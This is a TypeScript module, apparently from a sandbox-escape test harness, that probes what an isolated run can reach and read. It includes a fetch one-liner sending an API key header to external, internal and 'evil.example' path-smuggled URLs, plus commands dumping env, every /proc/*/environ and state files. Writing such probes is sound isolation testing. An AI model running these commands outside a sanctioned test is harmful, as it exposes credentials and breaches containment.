/** Where a hostile run tries to go. */
const TARGETS = [
  'http://example.com/',
  'https://example.com/',
  'http://1.1.1.1/',
  'https://1.1.1.1/',
  'http://172.17.0.1:22/',
  'http://gate.internal/',
  'http://gate.internal/mcp',
  'http://gate.internal/gate/claude/v1/files',
  // Its own gate takes its token, which leads to no other host.
  'http://gate.internal/gate/claude/v1/messages/count_tokens',
  'http://gate.internal/gate/claude//evil.example/v1/messages',
];

const FETCH = `const headers = { "x-api-key": process.env.ANTHROPIC_API_KEY ?? "none", "content-type": "application/json" };
const asked = (url) => url.includes("/v1/messages") ? { method: "POST", headers, body: "{}" } : {};
for (const url of process.argv.slice(1)) fetch(url, { ...asked(url), signal: AbortSignal.timeout(5000) }).then(
  (answer) => console.log("net", url, answer.status), () => console.log("net", url, "closed"))`.replaceAll('\n', ' ');

/** A command line that tries to fetch URLs. */
export const tryUrls = (urls: string[]) => `node -e '${FETCH}' ${urls.join(' ')}`;

/** A command line that prints all it can find out. What it says of the network and the number of files it could read come first. */
export const PROBE = [
  tryUrls(TARGETS),
  'echo files $(find / -xdev -type f -readable 2>/dev/null | wc -l)',
  'env',
  "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
  'cat /state/executor.json /state/runs/*/*.json 2>/dev/null',
].join('; ');

/** How each URL answered: its HTTP status, or closed. */
export const reachedIn = (said: string): Record<string, string> =>
  Object.fromEntries([...said.matchAll(/net (\S+) (\S+)/g)].map(([, url = '', how = '']) => [url, how]));

/** What the probe found. */
export const probed = (said: string) => ({ readable: Number(/files (\d+)/.exec(said)?.[1]), reached: reachedIn(said) });
